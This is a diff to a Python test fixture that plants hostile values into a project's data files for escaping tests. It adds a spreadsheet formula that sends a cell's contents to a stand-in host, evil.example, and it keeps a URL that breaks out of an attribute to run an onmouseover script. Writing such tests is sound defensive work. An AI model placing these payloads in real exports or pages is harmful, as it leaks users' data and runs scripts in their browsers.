@@ -28,6 +28,9 @@ PAYLOADS = (
 # (One with "[" broke out of its link before issue 10; the loader now refuses it: test_hostile_data.py.)
 BREAKOUT_URL = "https://example.org/x)'onmouseover=alert(11)"
 
+# A label that is nothing but a spreadsheet formula: a CSV cell must never start with it.
+FORMULA_LABEL = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
+
 # (file, entry id, field): every free-text field that reaches a page, a tooltip, a chart, a CSV or the notebook.
 TARGETS = (
     ("inputs/power.yaml", "h100_tdp_w", "label"),
@@ -64,6 +67,7 @@ def plant(project: Path) -> dict[tuple[str, str, str], str]:
         _set(project / "data" / file, entry, field, value)
         placed[(file, entry, field)] = value
     _set(project / "data/sources.yaml", "meta-llama31-model-card", "url", BREAKOUT_URL)
+    _set(project / "data/inputs/money.yaml", "capex_2024_actual_busd", "label", FORMULA_LABEL)  # a chart's row
     return placed
 
 
